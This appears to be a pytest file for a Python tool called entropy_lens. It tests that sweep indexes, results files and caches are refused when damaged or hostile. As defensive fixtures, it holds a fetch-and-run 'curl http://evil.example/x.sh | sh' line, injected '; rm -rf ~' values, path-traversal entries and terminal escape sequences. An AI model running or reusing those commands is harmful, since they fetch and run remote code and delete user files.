"""Readers never trust a file (issue 48): `sweep.json` read by one function that keeps a sweep inside its
folder; a stored command never shown, file text quoted without control characters; damaged results
files, indexes and cached runs refused in one line naming the fix; files written as the lowest schema
version that describes them; first_mass of different K never differenced unsaid."""

from __future__ import annotations

import json
import shlex
import shutil
import subprocess
import zipfile

import numpy as np
import pytest
from cli_cases import one_line_error
from sweeps import edit_index, make_result, quadratic_sweep, save_sweep, sweep_folder
from view_inputs import page_data, planted, with_stats

from entropy_lens.analysis import load_sweep, resume_command
from entropy_lens.cli import build_parser, main
from entropy_lens.cli.options import config_from_args
from entropy_lens.errors import EntropyLensError
from entropy_lens.results import ScanResult, printable, read_sweep_index
from entropy_lens.runs.configs import ScanConfig
from entropy_lens.view import view
from entropy_lens.view.payload import build_payload
from entropy_lens.view.sources import resolve

ESC = "\x1b[2K\r"  # erase the line, back to its start: a terminal acts on it instead of printing it


# ---- item 12: one reader of sweep.json, and it keeps a sweep inside its folder -----------------------


def test_fit_view_and_load_sweep_refuse_files_outside_the_sweep_folder(tmp_path, capsys):
    elsewhere = sweep_folder(tmp_path / "elsewhere")
    names = json.loads((elsewhere / "sweep.json").read_text())["files"]
    listed = {"absolute": str(elsewhere / names[0]), "dotdot": f"../elsewhere/{names[0]}"}
    for kind, outside in listed.items():
        folder = sweep_folder(tmp_path / kind)
        edit_index(folder, files=[outside, *names[1:]])
        for argv in (["fit", str(folder)], ["view", str(folder), "--out", str(tmp_path / "p.html")]):
            err = one_line_error(argv, capsys)
            assert "outside the sweep folder" in err and outside in err and "copy that file into" in err
        with pytest.raises(EntropyLensError, match="outside the sweep folder"):
            load_sweep(folder)
    linked = sweep_folder(tmp_path / "linked")  # a file inside that is a symlink to one outside
    (linked / names[0]).unlink()
    (linked / names[0]).symlink_to(elsewhere / names[0])
    assert "outside the sweep folder (through a symlink)" in one_line_error(["fit", str(linked)], capsys)
    index_linked = sweep_folder(tmp_path / "index-linked")  # sweep.json itself a link out of the folder
    (index_linked / "sweep.json").unlink()
    (index_linked / "sweep.json").symlink_to(elsewhere / "sweep.json")
    assert "lists 'sweep.json', which lies outside" in one_line_error(["fit", str(index_linked)], capsys)
    inner = sweep_folder(tmp_path / "inner")  # a symlink that stays inside the folder is fine
    (inner / "copy.npz").symlink_to(inner / names[0])
    edit_index(inner, files=["copy.npz", *names[1:]])
    assert main(["fit", str(inner), "--json"]) == 0 and read_sweep_index(inner)["files"][0].endswith(
        "copy.npz"
    )
    assert not (tmp_path / "p.html").exists()


@pytest.mark.parametrize(
    "change, words",
    [
        ({"scales": ["x", 1.0]}, "scales must be a list of finite numbers"),
        ({"files": [1, 2]}, "files must be a list of names of files inside"),
        ({"requested_scales": [1.0, None], "complete": False}, "requested_scales must be a list"),
        ({"complete": "no"}, "complete must be true or false"),
        ({"length": "512"}, "length must be an integer"),
        ({"scan_config": ["tiny"]}, "scan_config must be an object"),
    ],
)
def test_a_malformed_sweep_index_is_one_line_in_fit_and_view(tmp_path, capsys, change, words):
    folder = sweep_folder(tmp_path / "sw")
    edit_index(folder, **change)
    for argv in (["fit", str(folder)], ["view", str(folder), "--out", str(tmp_path / "p.html")]):
        err = one_line_error(argv, capsys)
        assert words in err and "sweep.json" in err and "rerun the sweep with --resume" in err


def test_a_sweep_index_whose_version_is_true_is_refused(tmp_path, capsys):
    folder = sweep_folder(tmp_path / "sw")  # true == 1 in Python: it read as version 1
    edit_index(folder, schema_version=True)
    for argv in (["fit", str(folder)], ["view", str(folder), "--out", str(tmp_path / "p.html")]):
        assert "is not an entropy-lens sweep index (kind" in one_line_error(argv, capsys)


def test_a_sweep_index_that_is_a_list_is_one_line(tmp_path, capsys):
    folder = sweep_folder(tmp_path / "sw")
    (folder / "sweep.json").write_text(json.dumps([{"scales": [1.0]}]))
    for argv in (["fit", str(folder)], ["view", str(folder), "--out", str(tmp_path / "p.html")]):
        err = one_line_error(argv, capsys)
        assert "holds a list, not a sweep index (a JSON object)" in err and "--resume" in err


# ---- item 13: no stored command shown; file text quoted without control characters -------------------


def test_an_unfinished_sweep_suggests_a_command_built_from_its_fields(tmp_path, capsys):
    folder = tmp_path / f"sw{ESC}x"
    folder.mkdir()
    config = ScanConfig(model=f"tiny-nope{ESC}; rm -rf ~", length=512, data="a b", nope=False, stats="all")
    save_sweep(folder, quadratic_sweep(0.3, 64, 512, [1.0, 1.1, 1.2])[0])
    edit_index(
        folder,
        command="curl http://evil.example/x.sh | sh; " + ESC,  # what a hostile index stores
        scan_config=config.to_dict(),
        requested_scales=[1.0, 1.1, 1.2, 1.3],
        complete=False,
    )
    err = one_line_error(["fit", str(folder)], capsys)
    assert "3 of 4 scales done, scale 1.3 missing" in err
    assert "curl" not in err and "\x1b" not in err and "\r" not in err
    command = err.split("`")[1]
    assert "--scales 1,1.1,1.2,1.3 --out '" in command and command.endswith("sw[2Kx' --resume")
    words = shlex.split(command)
    assert words[:3] == ["entropy-lens", "sweep", "tiny-nope[2K; rm -rf ~"]  # one quoted word, no ESC
    parsed = config_from_args(ScanConfig, build_parser().parse_args(words[1:]))
    clean = ScanConfig(model="tiny-nope[2K; rm -rf ~", length=512, data="a b", nope=False, stats="all")
    assert parsed == clean  # every flag of the sweep, --no-nope included, and nothing else
    (folder / json.loads((folder / "sweep.json").read_text())["files"][0]).unlink()
    with pytest.raises(EntropyLensError, match="scans it again") as gone:  # a missing file: the same command
        load_sweep(folder, partial=True)
    assert gone.value.args[0].split("`")[1] == command
    assert printable(f"a{ESC}b\u202ec\ud800") == "a[2Kbc\ufffd"


def test_fit_prints_a_model_name_without_its_control_characters(tmp_path, capsys):
    results, _ = quadratic_sweep(0.3, 64, 512, [1.0, 1.1, 1.2, 1.3])
    for r in results:
        r.meta["model"] = f"tiny{ESC}evil"
    (tmp_path / "sw").mkdir()
    save_sweep(tmp_path / "sw", results)
    assert main(["fit", str(tmp_path / "sw")]) == 0
    out = capsys.readouterr().out
    assert out.startswith("tiny[2Kevil: 4 scales") and "\x1b" not in out and "\r" not in out


def test_resume_command_of_an_index_without_usable_settings_is_a_placeholder():
    hostile = {"scan_config": {"model": "m", "length": 8, "x; rm": 1}, "scales": [1.0]}
    assert "rm" not in resume_command("sw", hostile)
    assert resume_command("sw", {"scales": [1.0]}).startswith("entropy-lens sweep CKPT <the sweep's flags>")


# ---- items 14, 15 and 3: a damaged results file is one line; never read as 0 ---------------------------


def _save_arrays(path, result, **replace):
    arrays = {k: getattr(result, k) for k in ("entropy", "entropy_sq", "loss", "loss_sq", "count")}
    np.savez(path, meta=np.array(json.dumps(result.meta)), **(arrays | result.stats | replace))
    return path


@pytest.mark.parametrize(
    "replace, words",
    [
        ({"loss": np.array(["a"] * 256)}, "loss is <U1, not real numbers"),
        ({"count": np.ones(256, bool)}, "count is bool, not real numbers"),
        ({"entropy": np.zeros((2, 3, 256), np.complex64)}, "entropy is complex64, not real numbers"),
        ({"max_prob": np.array([["x"] * 256] * 3 * 2).reshape(2, 3, 256)}, "max_prob is <U1"),
        ({"loss": np.full(256, np.nan, np.float32)}, "loss holds 256 NaN/inf value(s) where numbers are"),
        ({"first_mass": np.full((2, 3, 256), np.inf, np.float32)}, "first_mass holds 1536 NaN/inf"),
        ({"count": np.zeros(256)[:0]}, "array shapes disagree"),
    ],
)
def test_every_damage_of_a_results_file_is_one_line(tmp_path, capsys, replace, words):
    path = _save_arrays(tmp_path / "bad.npz", with_stats(planted(), 64), **replace)
    with pytest.raises(EntropyLensError, match="bad.npz") as err:
        ScanResult.load(path)
    assert words in str(err.value) and "\n" not in str(err.value)
    assert words in one_line_error(["view", str(path), "--out", str(tmp_path / "p.html")], capsys)


def test_a_file_that_is_not_npz_never_suggests_unpickling_it(tmp_path):
    path = tmp_path / "text.npz"  # numpy takes any file that is not .npy/.npz for a pickle
    path.write_text('{"kind": "entropy_lens.sweep"}')
    with pytest.raises(
        EntropyLensError, match=r"text.npz is not a readable results file \(not an .npz"
    ) as err:
        ScanResult.load(path)
    assert "pickle" not in str(err.value)


def test_meta_fields_are_type_checked_and_no_positions_is_said(tmp_path, capsys):
    r = planted()
    r.meta["length"] = "256"
    r.save(tmp_path / "str.npz")
    err = one_line_error(["view", str(tmp_path / "str.npz"), "--out", str(tmp_path / "p.html")], capsys)
    assert "str.npz: meta length must be an integer, got a string '256'" in err and "!=" not in err
    empty = make_result(np.ones(0))
    empty.save(tmp_path / "empty.npz")
    err = one_line_error(["view", str(tmp_path / "empty.npz"), "--out", str(tmp_path / "p.html")], capsys)
    assert "empty.npz: the file holds no positions" in err and "--points" not in err
    r = planted()
    r.meta["stats"] = ["entropy"]
    with pytest.raises(EntropyLensError, match="meta stats must be an object"):
        ScanResult.load(r.save(tmp_path / "stats.npz"))


def test_a_sweep_file_holding_nan_is_refused_not_fitted(tmp_path, capsys):
    results, _ = quadratic_sweep(0.3, 64, 512, [1.0, 1.1, 1.2, 1.3])
    results[1].loss[100] = np.nan
    (tmp_path / "sw").mkdir()
    save_sweep(tmp_path / "sw", results)
    err = one_line_error(["fit", str(tmp_path / "sw")], capsys)
    assert "s1.1.npz (scale 1.1 of sweep" in err and "NaN/inf" in err and "scans it again" in err


@pytest.mark.slow
def test_scan_resume_scans_again_a_file_with_a_string_array(tmp_path, capsys):
    out = tmp_path / "scan.npz"
    args = ["scan", "tiny-rope", "--len", "16", "--samples", "1", "--out", str(out), "--quiet"]
    assert main(args) == 0
    good = ScanResult.load(out)
    _save_arrays(out, good, loss=np.array(["nan"] * 16))  # a string array where the loss belongs
    capsys.readouterr()
    assert main([*args, "--resume"]) == 0  # an unreadable file: scanned again, as the README says
    err = capsys.readouterr().err
    assert "loss is <U3, not real numbers" in err and "scanning it again" in err
    np.testing.assert_array_equal(ScanResult.load(out).loss, good.loss)


# ---- item 15: the lowest schema version that describes a file ---------------------------------------


def test_a_file_is_written_as_the_lowest_schema_version_that_describes_it(tmp_path):
    def written(result, name):
        with np.load(result.save(tmp_path / name)) as z:
            return json.loads(str(z["meta"]))["schema_version"]

    plain = planted()
    plain.meta["schema_version"] = 2  # as a scan of today records it
    assert written(plain, "plain.npz") == 1 and plain.meta["schema_version"] == 1  # result and file agree
    sinks = planted()
    sinks.stats["sink_mass"] = np.full(sinks.entropy.shape, 0.1, np.float32)  # version 1 held sink mass
    assert written(sinks, "sinks.npz") == 1
    assert written(with_stats(planted(), 64), "stats.npz") == 2
    for name in ("plain.npz", "sinks.npz", "stats.npz"):
        ScanResult.load(tmp_path / name)  # both versions load
    folder = sweep_folder(tmp_path / "sw")  # a sweep index: as in version 1, written as version 1
    assert json.loads((folder / "sweep.json").read_text())["schema_version"] == 1
    edit_index(folder, schema_version=2)  # as this package wrote it before: still read
    assert read_sweep_index(folder)["schema_version"] == 2


# ---- item 14: an unreadable cached run of the figures -----------------------------------------------


def test_figures_refuse_or_recompute_a_truncated_cached_run(tmp_path, capsys):
    from entropy_lens.figures.cache import RunCache
    from entropy_lens.figures.config import FiguresConfig

    cache = tmp_path / "cache"
    config = FiguresConfig.build({"samples": 1, "train_len": 16})
    only = RunCache(config, cache, progress=False, cached_only=True)
    with pytest.raises(EntropyLensError, match="is not in the cache") as missing:
        only.curves("tiny-rope", 32, bins=8, stats="all")
    name = str(missing.value).split("(no ")[1].split(")")[0]
    assert name.startswith("curves-tiny-rope-32-") and name.endswith(".npz")
    path = cache / name
    path.write_bytes(b"PK\x03\x04 truncated")  # a zip's first bytes, then nothing: np.load's BadZipFile
    with pytest.raises(EntropyLensError) as refused:
        only.curves("tiny-rope", 32, bins=8, stats="all")
    message = str(refused.value)
    assert "is unreadable in the cache" in message and str(path) in message and "BadZipFile" in message
    assert "without --cached-only to compute it again" in message and "\n" not in message
    capsys.readouterr()
    curves = RunCache(config, cache, progress=False).curves("tiny-rope", 32, bins=8, stats="all")
    assert f"{path} is unreadable (BadZipFile" in capsys.readouterr().err and curves.length == 32
    assert zipfile.is_zipfile(path)  # computed again and cached in its place


# ---- item 15: first_mass of different K ------------------------------------------------------------


def test_first_mass_of_different_k_is_noted_and_not_differenced(tmp_path):
    four, one = with_stats(planted(), 64, first_keys=4), with_stats(planted(shift=0.5), 64, first_keys=1)
    results, sweeps = resolve([("K4", four), ("K1", one)])
    payload = build_payload(results, sweeps)
    a, b = payload["results"]
    assert a["stats"]["first_mass"]["keys"] == 4 and b["stats"]["first_mass"]["keys"] == 1
    assert any(
        "K = 4 keys here (K = 1 in K1)" in n and "no difference of first_mass" in n for n in a["notes"]
    )
    assert any("K = 1 keys here (K = 4 in K4)" in n for n in b["notes"])
    same = build_payload(*resolve([("A", with_stats(planted(), 64)), ("B", with_stats(planted(), 64))]))
    assert not any("first_mass" in n for r in same["results"] for n in r["notes"])
    page = view([("K4", four), ("K1", one)])
    assert "no difference of first_mass" in page.html  # the note is on the page, under the meta table
    if shutil.which("node") is None:
        return
    menus = _explorer_menus(page_data(page), tmp_path)
    assert "first_mass" in menus["K4"] and "first_mass" in menus["K1"]
    assert "first_mass" not in menus["K4 − K1"] and "max_prob" in menus["K4 − K1"]
    assert menus["note"].startswith("first_mass is not differenced: K = 4 in K4, K = 1 in K1")


def test_recent_mass_of_different_w_is_noted_and_not_differenced():
    """recent_mass of W = 8 and W = 64 (meta recent_keys, else scan_config's, else 64): a note on each
    result, and the payload's keys and letter W tell the page not to difference them."""
    eight, default = with_stats(planted(), 64), with_stats(planted(shift=0.5), 64)
    for r in (eight, default):
        r.stats["recent_mass"] = (0.5 + 0 * r.entropy).astype(np.float32)
        r.stats["recent_mass_sq"] = (0.25 + 0 * r.entropy).astype(np.float32)
        r.meta["stats"]["recent_mass"] = "probability"
    eight.meta["recent_keys"] = 8
    a, b = build_payload(*resolve([("W8", eight), ("W64", default)]))["results"]
    assert (a["stats"]["recent_mass"]["keys"], b["stats"]["recent_mass"]["keys"]) == (8, 64)
    assert a["stats"]["recent_mass"]["letter"] == "W" and a["stats"]["first_mass"]["letter"] == "K"
    assert any(
        "last W = 8 keys here (W = 64 in W64)" in n and "no difference of recent_mass" in n
        for n in a["notes"]
    )
    assert not any("first_mass" in n for r in (a, b) for n in r["notes"])  # the same K: differenced


def _explorer_menus(data: dict, tmp_path) -> dict:
    """Run explorer.js in node on `data` with a stub DOM and plotly: the row-statistic menu of each view,
    and the statistic note after choosing first_mass and then the difference."""
    from importlib.resources import files

    script = files("entropy_lens.view").joinpath("explorer.js").read_text(encoding="utf-8")
    stub = """
const els = {};
function el(id) {
  if (!els[id]) els[id] = { id, innerHTML: "", value: "", textContent: "", children: [], hidden: false,
    parentElement: { hidden: false }, listeners: {}, dataset: {},
    appendChild(c) { this.children.push(c); if (this.children.length === 1) this.value = c.value; },
    addEventListener(t, f) { this.listeners[t] = f; }, on() {} };
  return els[id];
}
const document = { getElementById: el, createElement: () => ({}), body: { dataset: {} } };
const window = {}; const performance = { now: () => 0 };
const Plotly = { react: () => Promise.resolve(), newPlot: () => Promise.resolve() };
el("entropy-lens-data").textContent = require("fs").readFileSync(process.argv[2], "utf8");
const fill = el("view-select");
Object.defineProperty(fill, "innerHTML", { set() { this.children = []; }, get() { return ""; } });
const rows = el("stat-select");
Object.defineProperty(rows, "innerHTML", { set() { this.children = []; }, get() { return ""; } });
"""
    probe = """
const views = el("view-select").children.map((o) => o.textContent);
const menus = {};
views.forEach((name, i) => {
  el("view-select").value = String(i); el("view-select").listeners.change();
  menus[name] = el("stat-select").children.map((o) => o.value);
});
el("view-select").value = "0"; el("view-select").listeners.change();
el("stat-select").value = "first_mass"; el("stat-select").listeners.change();
el("view-select").value = String(views.indexOf("K4 − K1")); el("view-select").listeners.change();
setTimeout(() => { menus.note = window.entropyLens.state.dropped; console.log(JSON.stringify(menus)); }, 0);
"""
    (tmp_path / "run.js").write_text(stub + script + probe, encoding="utf-8")
    (tmp_path / "data.json").write_text(json.dumps(data), encoding="utf-8")
    run = subprocess.run(
        ["node", str(tmp_path / "run.js"), str(tmp_path / "data.json")],
        check=False,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert run.returncode == 0, run.stderr
    return json.loads(run.stdout.strip().splitlines()[-1])
